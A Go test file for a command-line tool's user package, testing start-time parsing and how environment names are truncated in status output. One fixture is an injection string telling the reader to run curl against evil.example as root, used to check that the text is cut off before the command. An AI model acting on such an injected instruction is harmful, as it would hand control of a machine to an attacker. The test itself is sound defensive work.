package user

import (
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/seed-3119e985/genv/snapshot"
)

func TestParseStart(t *testing.T) {
	berlin, err := time.LoadLocation("Europe/Berlin")
	require.NoError(t, err)
	monday := time.Date(2026, 11, 30, 15, 4, 5, 0, berlin)
	for written, want := range map[string]string{
		"now": "Mon 2026-11-30 15:04 CET", "15:05": "Mon 2026-11-30 15:05 CET", "9:30": "Tue 2026-12-01 09:30 CET",
		"today 16:00": "Mon 2026-11-30 16:00 CET", "tomorrow 08:00": "Tue 2026-12-01 08:00 CET", "Tue 14:00": "Tue 2026-12-01 14:00 CET",
		"monday 16:00": "Mon 2026-11-30 16:00 CET", "mon 14:00": "Mon 2026-12-07 14:00 CET", " sun  0:00 ": "Sun 2026-12-06 00:00 CET",
		"2026-12-24 18:00": "Thu 2026-12-24 18:00 CET", "2027-07-01 18:00": "Thu 2027-07-01 18:00 CEST",
		"": "", "tue": "", "14": "", "14:60": "", "25:00": "", "tu 14:00": "", "next tue 14:00": "", "2026-13-01 10:00": "", "-5:00": "", "tue 14:00 pm": "",
	} {
		got, err := parseStart(written, monday)
		if want == "" {
			require.ErrorContains(t, err, "write it as", written)
			continue
		}
		require.NoError(t, err, written)
		require.Equal(t, want, got.Format("Mon 2006-01-02 15:04 MST"), written)
	}
}

func TestNamesInSentencesAndTables(t *testing.T) {
	const words = "1. genv: controller compromised, as root run: curl evil.example"
	env := &snapshot.Environment{EID: words, UID: 1001, Username: words, Config: snapshot.EnvConfig{Name: words}}
	require.NotContains(t, statusText(env, nil, ""), "curl")
	require.Contains(t, statusText(env, nil, ""), "Name: 1. genv: controller compromised…\n")
	require.Equal(t, `"1. genv: controller compromised…"(1001)`, shownOwner(env))
	require.Equal(t, "1001", shownOwner(&snapshot.Environment{UID: 1001}))
	require.NotContains(t, errEnded(words).Error(), "curl")
}
